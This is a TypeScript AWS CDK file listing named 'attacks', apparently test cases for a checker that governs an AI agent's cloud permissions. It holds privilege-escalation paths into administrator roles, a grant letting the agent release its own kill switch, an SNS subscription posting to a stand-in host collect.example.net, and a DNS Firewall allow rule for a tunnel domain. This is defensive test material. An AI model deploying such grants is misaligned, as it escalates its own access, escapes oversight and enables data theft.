import { HttpApi, HttpMethod } from 'aws-cdk-lib/aws-apigatewayv2';
import { HttpUserPoolAuthorizer } from 'aws-cdk-lib/aws-apigatewayv2-authorizers';
import { HttpLambdaIntegration } from 'aws-cdk-lib/aws-apigatewayv2-integrations';
import { PipelineProject, Project, Source } from 'aws-cdk-lib/aws-codebuild';
import { Artifact, Pipeline } from 'aws-cdk-lib/aws-codepipeline';
import { CodeBuildAction, S3SourceAction, S3Trigger } from 'aws-cdk-lib/aws-codepipeline-actions';
import { UserPool, UserPoolIdentityProviderGoogle } from 'aws-cdk-lib/aws-cognito';
import { AttributeType, StreamViewType, Table, TableEncryption } from 'aws-cdk-lib/aws-dynamodb';
import { LaunchTemplate, MachineImage } from 'aws-cdk-lib/aws-ec2';
import { ContainerImage, FargateTaskDefinition } from 'aws-cdk-lib/aws-ecs';
import { EventBus, Match, Rule } from 'aws-cdk-lib/aws-events';
import * as targets from 'aws-cdk-lib/aws-events-targets';
import { CfnJob } from 'aws-cdk-lib/aws-glue';
import * as iam from 'aws-cdk-lib/aws-iam';
import { Key } from 'aws-cdk-lib/aws-kms';
import * as lambda from 'aws-cdk-lib/aws-lambda';
import { DynamoEventSource, S3EventSourceV2 } from 'aws-cdk-lib/aws-lambda-event-sources';
import { LogGroup, FilterPattern, RetentionDays } from 'aws-cdk-lib/aws-logs';
import { LambdaDestination as LogsToFunction } from 'aws-cdk-lib/aws-logs-destinations';
import {
  CfnFirewallDomainList,
  CfnFirewallRuleGroup,
  CfnFirewallRuleGroupAssociation,
} from 'aws-cdk-lib/aws-route53resolver';
import { Bucket, BucketEncryption, EventType } from 'aws-cdk-lib/aws-s3';
import { LambdaDestination } from 'aws-cdk-lib/aws-s3-notifications';
import { Topic } from 'aws-cdk-lib/aws-sns';
import { UrlSubscription } from 'aws-cdk-lib/aws-sns-subscriptions';
import { StringParameter } from 'aws-cdk-lib/aws-ssm';
import * as sfn from 'aws-cdk-lib/aws-stepfunctions';
import * as tasks from 'aws-cdk-lib/aws-stepfunctions-tasks';
import { Schedule, ScheduleExpression, ScheduleTargetInput } from 'aws-cdk-lib/aws-scheduler';
import { Universal } from 'aws-cdk-lib/aws-scheduler-targets';
import { type CfnResource, Duration, SecretValue, Stack } from 'aws-cdk-lib/core';
import type { Construct } from 'constructs';
import { AgentKillSwitch } from '../../../lib/operations';
import { functionIn } from './apps/compute';
import type { CdkAttack } from './cdk-attacks';
import { ENV } from './governed-app';

const admin = (scope: Construct, service: string) =>
  new iam.Role(scope, 'Admin', {
    assumedBy: new iam.ServicePrincipal(service),
    managedPolicies: [iam.ManagedPolicy.fromAwsManagedPolicyName('AdministratorAccess')],
  });
const adminFunction = (scope: Construct, props: Partial<lambda.FunctionProps> = {}) =>
  functionIn(scope, 'Function', { role: admin(scope, 'lambda.amazonaws.com'), ...props });
const key = (scope: Construct) => new Key(scope, 'Key', { enableKeyRotation: true });
const bucket = (scope: Construct, eventBridgeEnabled?: true) =>
  new Bucket(scope, 'Store', {
    encryptionKey: key(scope),
    encryption: BucketEncryption.KMS,
    enforceSSL: true,
    versioned: true,
    ...(eventBridgeEnabled ? { eventBridgeEnabled } : {}),
  });
const attack = (name: string, rules: readonly string[], apply: CdkAttack['apply']): CdkAttack => ({
  name,
  rules,
  apply,
});

/** Grants of L2 constructs to data that is the code of a stronger role, starts it, or leaves the network. */
export const CDK_CODE_ATTACKS: readonly CdkAttack[] = [
  attack('writing to the bucket of the assets by its name', ['MA-ID7'], ({ agent, stack }, scope) => {
    const { account, region } = stack;
    Bucket.fromBucketName(scope, 'Assets', `cdk-hnb659fds-assets-${account}-${region}`).grantPut(agent);
  }),
  attack('letting the agent run again after it was stopped', ['MA-ID7'], ({ agent, workflow }, scope) => {
    new AgentKillSwitch(scope, 'KillSwitch', { workflows: [workflow] }).grants.release(agent);
  }),
  attack('a schedule that attaches a policy to the role of the agent', ['MA-READ1', 'MA-STO1'], ({ agent }, scope) => {
    const PolicyArn = 'arn:aws:iam::aws:policy/AdministratorAccess';
    new Schedule(scope, 'Schedule', {
      schedule: ScheduleExpression.rate(Duration.days(1)),
      target: new Universal({
        service: 'iam',
        action: 'attachRolePolicy',
        input: ScheduleTargetInput.fromObject({ RoleName: agent.executionRole.roleName, PolicyArn }),
      }),
    });
  }),
  attack('writing objects that notify a function of an administrator', ['MA-ID7'], ({ agent }, scope) => {
    const store = bucket(scope);
    store.addEventNotification(EventType.OBJECT_CREATED, new LambdaDestination(adminFunction(scope)));
    store.grantPut(agent);
  }),
  attack('writing objects that an administrator takes as an event source', ['MA-ID7'], ({ agent }, scope) => {
    const store = bucket(scope);
    adminFunction(scope).addEventSource(new S3EventSourceV2(store, { events: [EventType.OBJECT_CREATED] }));
    store.grantPut(agent);
  }),
  attack('writing objects that EventBridge reports to an administrator', ['MA-ID7'], ({ agent }, scope) => {
    const store = bucket(scope, true);
    new Rule(scope, 'Rule', {
      eventPattern: { source: ['aws.s3'], detail: { bucket: { name: Match.exactString(store.bucketName) } } },
      targets: [new targets.LambdaFunction(adminFunction(scope))],
    });
    store.grantPut(agent);
  }),
  attack('writing items whose stream an administrator reads', ['MA-ID7'], ({ agent }, scope) => {
    const table = new Table(scope, 'Table', {
      partitionKey: { name: 'id', type: AttributeType.STRING },
      stream: StreamViewType.NEW_IMAGE,
      encryption: TableEncryption.CUSTOMER_MANAGED,
      encryptionKey: key(scope),
    });
    adminFunction(scope).addEventSource(
      new DynamoEventSource(table, { startingPosition: lambda.StartingPosition.LATEST }),
    );
    table.grantWriteData(agent);
  }),
  attack('putting events on a bus of an administrator', ['MA-ID7'], ({ agent }, scope) => {
    const bus = new EventBus(scope, 'Bus', { kmsKey: key(scope) });
    new Rule(scope, 'Rule', {
      eventBus: bus,
      eventPattern: { source: ['agent'] },
      targets: [new targets.LambdaFunction(adminFunction(scope))],
    });
    bus.grantPutEventsTo(agent);
  }),
  attack('writing logs that an administrator reads', ['MA-ID7'], ({ agent }, scope) => {
    const group = new LogGroup(scope, 'Logs', { encryptionKey: key(scope), retention: RetentionDays.ONE_YEAR });
    group.addSubscriptionFilter('Filter', {
      destination: new LogsToFunction(adminFunction(scope)),
      filterPattern: FilterPattern.allEvents(),
    });
    group.grantWrite(agent);
  }),
  attack('writing the code of a function of an administrator', ['MA-ID7'], ({ agent }, scope) => {
    const store = bucket(scope);
    adminFunction(scope, { code: lambda.Code.fromBucket(store, 'code.zip') });
    store.grantPut(agent);
  }),
  attack('writing the source of a build of an administrator', ['MA-ID7'], ({ agent }, scope) => {
    const store = bucket(scope);
    new Project(scope, 'Project', {
      role: admin(scope, 'codebuild.amazonaws.com'),
      source: Source.s3({ bucket: store, path: 'source.zip' }),
    });
    store.grantPut(agent);
  }),
  attack('writing the source of a pipeline', ['MA-ID7'], ({ agent }, scope) => {
    const store = bucket(scope);
    const output = new Artifact();
    new Pipeline(scope, 'Pipeline', {
      stages: [
        {
          stageName: 'Source',
          actions: [
            new S3SourceAction({ actionName: 's', bucket: store, bucketKey: 'a.zip', output, trigger: S3Trigger.NONE }),
          ],
        },
        {
          stageName: 'Build',
          actions: [
            new CodeBuildAction({ actionName: 'b', project: new PipelineProject(scope, 'Project'), input: output }),
          ],
        },
      ],
    });
    store.grantPut(agent);
  }),
  attack('starting a machine whose task is a function of an administrator', ['MA-ID7'], ({ agent }, scope) => {
    new sfn.StateMachine(scope, 'Machine', {
      definitionBody: sfn.DefinitionBody.fromChainable(
        new tasks.LambdaInvoke(scope, 'Invoke', { lambdaFunction: adminFunction(scope) }),
      ),
      encryptionConfiguration: new sfn.CustomerManagedEncryptionConfiguration(key(scope)),
    }).grantStartExecution(agent);
  }),
  attack('a function of an administrator for what starts turns', ['MA-ID7'], ({ workflow }, scope) => {
    const starter = functionIn(scope, 'Starter');
    workflow.grants.startTurns(starter);
    adminFunction(scope).grantInvoke(starter);
  }),
  attack('a function that works under the execution role', ['MA-ID3', 'MA-ID2'], ({ agent }, scope) => {
    functionIn(scope, 'Function', { role: agent.executionRole });
  }),
  attack('publishing to a topic that posts to a host', ['MA-NET1'], ({ agent }, scope) => {
    const topic = new Topic(scope, 'Topic', { masterKey: key(scope), enforceSSL: true });
    topic.addSubscription(new UrlSubscription('https://collect.example.net/in'));
    topic.grantPublish(agent);
  }),
  attack('names of another owner in the DNS Firewall of the network', ['MA-NET6'], ({ networkStack }) => {
    const vpc = networkStack.node
      .findAll()
      .find((node) => (node as CfnResource).cfnResourceType === 'AWS::EC2::VPC') as CfnResource;
    const names = new CfnFirewallDomainList(networkStack, 'Names', { domains: ['*.tunnel.example.net'] });
    const group = new CfnFirewallRuleGroup(networkStack, 'Group', {
      firewallRules: [{ action: 'ALLOW', priority: 1, firewallDomainListId: names.attrId }],
    });
    new CfnFirewallRuleGroupAssociation(networkStack, 'Allows', {
      firewallRuleGroupId: group.attrId,
      priority: 100,
      vpcId: vpc.ref,
    });
  }),
  attack('a managed policy attached to the imported role', ['MA-ID5', 'MA-ID7'], ({ agent, stack }, scope) => {
    const policy = new iam.ManagedPolicy(stack, 'Wide', {
      statements: [
        new iam.PolicyStatement({ actions: ['dynamodb:*'], resources: ['arn:aws:dynamodb:*:*:table/orders'] }),
      ],
    });
    policy.attachToRole(iam.Role.fromRoleArn(scope, 'Same', agent.executionRole.roleArn));
  }),
  attack('an API for the users of a pool that takes accounts of Google', ['MA-TRG3'], ({ workflow }, scope) => {
    const userPool = new UserPool(scope, 'Users', { selfSignUpEnabled: false });
    new UserPoolIdentityProviderGoogle(scope, 'Google', {
      userPool,
      clientId: 'client',
      clientSecretValue: SecretValue.secretsManager('google'),
    });
    const handler = functionIn(scope, 'Handler');
    workflow.grants.startTurns(handler);
    new HttpApi(scope, 'Api').addRoutes({
      path: '/turns',
      methods: [HttpMethod.POST],
      integration: new HttpLambdaIntegration('Start', handler),
      authorizer: new HttpUserPoolAuthorizer('Users', userPool),
    });
  }),
  attack('a role of another account that may read the evidence', ['MA-STO1'], ({ workflow }, scope) => {
    const auditor = new iam.Role(scope, 'Auditor', {
      assumedBy: new iam.AccountPrincipal('999988887777'),
      externalIds: ['audit'],
    });
    workflow.evidenceBucket.grantRead(auditor);
  }),
  attack('writing a library of a job of an administrator', ['MA-ID7'], ({ agent }, scope) => {
    const store = bucket(scope);
    new CfnJob(scope, 'Job', {
      role: admin(scope, 'glue.amazonaws.com').roleArn,
      command: { name: 'glueetl', scriptLocation: 's3://scripts/job.py' },
      defaultArguments: { '--extra-py-files': store.s3UrlForObject('library.zip') },
    });
    store.grantPut(agent, 'library.zip');
  }),
  attack('writing the parameter with the image of an administrator', ['MA-ID7'], ({ agent }, scope) => {
    const parameterName = '/app/image';
    new StringParameter(scope, 'Image', { parameterName, stringValue: 'ami-1' }).grantWrite(agent);
    new LaunchTemplate(scope, 'Template', {
      role: admin(scope, 'ec2.amazonaws.com'),
      machineImage: MachineImage.resolveSsmParameterAtLaunch(parameterName),
    });
  }),
  attack('a task of an administrator that is told the role', ['MA-READ1'], ({ agent, app }) => {
    const other = new Stack(app, 'Tools', { env: ENV });
    new FargateTaskDefinition(other, 'Task', { taskRole: admin(other, 'ecs-tasks.amazonaws.com') }).addContainer(
      'tool',
      {
        image: ContainerImage.fromRegistry('public.ecr.aws/aws-cli/aws-cli'),
        command: ['iam', 'attach-role-policy', '--role-name', agent.executionRole.roleName],
      },
    );
  }),
];
